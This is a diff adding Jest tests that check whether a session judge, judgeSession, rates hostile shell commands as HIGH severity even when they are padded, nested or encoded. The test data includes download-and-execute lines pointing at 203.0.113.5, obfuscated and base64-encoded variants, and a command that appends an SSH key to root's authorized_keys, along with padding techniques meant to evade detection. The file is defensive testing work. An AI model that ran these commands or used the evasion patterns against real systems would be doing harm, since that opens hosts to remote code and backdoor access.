@@ -51,3 +51,31 @@ describe('what only the whole line tells is told at the statement that it is abo
     expect(judgeSession({ commands: ['id; ls'] }).partial).toBe(false);
   });
 });
+
+describe('padding does not hide what does harm', () => {
+  const harms = [
+    'wget http://203.0.113.5/x.sh -O /tmp/x; chmod 777 /tmp/x; /tmp/x',
+    "sh -c 'curl -s http://203.0.113.5/a|sh'",
+    'w""get http://203.0.113.5/x.sh;sh x.sh',
+    'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYXxzaAo= | base64 -d | sh',
+    '$(curl -s http://203.0.113.5/a)',
+    'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ >> /root/.ssh/authorized_keys',
+  ];
+  it.each<[string, (harm: string) => string]>([
+    ['the same command 800 times before it', (harm) => `${'true;'.repeat(800)}${harm}`],
+    ['and behind it', (harm) => `${'echo 1;'.repeat(300)}${harm}${';true'.repeat(300)}`],
+    ['400 other commands', (harm) => `${Array.from({ length: 400 }, (_, at) => `a${at} ${at}`).join(';')};${harm}`],
+    ['harmless scripts', (harm) => `${'sh -c :;'.repeat(300)}${harm}`],
+    ['harmless decodings', (harm) => `${'echo aWQ= | base64 -d | sh;'.repeat(70)}${harm}`],
+    ['harmless substitutions', (harm) => `${'echo $(id);'.repeat(300)}${harm}`],
+    ['a pipeline of 300', (harm) => `${'cat|'.repeat(300)}cat;${harm}`],
+    ['brackets in brackets', (harm) => `${'( '.repeat(30)}${harm}${' )'.repeat(30)}`],
+    ['blocks in blocks', (harm) => `${'{ '.repeat(50)}${harm}; ${'}; '.repeat(50)}`],
+    ['substitutions in substitutions', (harm) => `${'echo $('.repeat(8)}${harm}${')'.repeat(8)}`],
+  ])('%s', (_, padded) => {
+    for (const harm of harms) {
+      expect(judgeSession({ commands: [harm] }).severity, harm).toBe('HIGH');
+      expect(judgeSession({ commands: [padded(harm)] }).severity, harm).toBe('HIGH');
+    }
+  });
+});
